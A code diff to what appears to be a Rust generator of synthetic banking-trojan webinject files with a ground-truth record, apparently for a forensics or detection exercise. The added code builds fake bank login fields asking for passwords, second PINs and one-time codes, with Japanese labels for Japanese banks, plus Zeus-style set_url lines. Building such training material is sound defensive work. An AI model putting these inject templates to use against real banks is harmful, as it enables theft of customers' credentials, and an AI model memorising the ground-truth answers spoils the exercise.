@@ -49,6 +49,8 @@ pub struct GroundTruth {
     pub targeted_institutions: Vec<String>,
     /// Inject URL masks that match no registry institution.
     pub unmatched_targets: Vec<String>,
+    /// What each inject's fake screen asks for: (institution id, secret kinds), in file order per campaign.
+    pub asked: Vec<(String, Vec<SecretKind>)>,
     /// Drop URLs the injects send data to (one per campaign), sorted.
     pub drop_urls: Vec<String>,
     /// Criminal script hosts the injects load from, sorted.
@@ -536,12 +538,28 @@ pub fn generate(opts: &GenerateOptions) -> Generated {
         .collect();
     script_urls.sort();
     let report_lines = drops.iter().map(|d| d.lines.len()).sum();
+    let asked = campaigns
+        .iter()
+        .flat_map(|c| {
+            c.targets.iter().enumerate().map(|(i, &t)| {
+                let mut kinds = vec![SecretKind::Password];
+                if c.asks_pin[i] {
+                    kinds.push(SecretKind::Pin);
+                }
+                if c.asks_otp[i] {
+                    kinds.push(SecretKind::OneTimeCode);
+                }
+                (INSTITUTIONS[t].id.to_string(), kinds)
+            })
+        })
+        .collect();
     let truth = GroundTruth {
         seed: opts.seed,
         drop_base: drop_base.clone(),
         victims: truth_victims,
         targeted_institutions: targeted,
         unmatched_targets: vec![WEBMAIL_MASK.to_string()],
+        asked,
         drop_urls,
         script_urls,
         report_lines,
@@ -567,14 +585,21 @@ fn webinject_file(c: &Campaign, drop_base: &str) -> String {
     ));
     for (i, &t) in c.targets.iter().enumerate() {
         let spec = &INSTITUTIONS[t];
-        let mut fields = String::from(
-            "<tr><td>Password</td><td><input type=\"password\" name=\"password\"></td></tr>\r\n",
+        // Japanese institutions get a Japanese fake screen, as the 2013 campaigns had.
+        let jp = spec.country == "JP";
+        let (l_pw, l_pin, l_otp) = if jp {
+            ("ログインパスワード", "第二暗証番号", "ワンタイムパスワード")
+        } else {
+            ("Password", "Second PIN", "One-time password")
+        };
+        let mut fields = format!(
+            "<tr><td>{l_pw}</td><td><input type=\"password\" name=\"password\"></td></tr>\r\n"
         );
         if c.asks_pin[i] {
-            fields.push_str("<tr><td>Second PIN</td><td><input type=\"password\" name=\"ansho\" maxlength=\"4\"></td></tr>\r\n");
+            fields.push_str(&format!("<tr><td>{l_pin}</td><td><input type=\"password\" name=\"ansho\" maxlength=\"4\"></td></tr>\r\n"));
         }
         if c.asks_otp[i] {
-            fields.push_str("<tr><td>One-time password</td><td><input type=\"text\" name=\"otp\" maxlength=\"6\"></td></tr>\r\n");
+            fields.push_str(&format!("<tr><td>{l_otp}</td><td><input type=\"text\" name=\"otp\" maxlength=\"6\"></td></tr>\r\n"));
         }
         out.push_str(&format!(
             "set_url https://ib.{domain}/*login* GP\r\n\
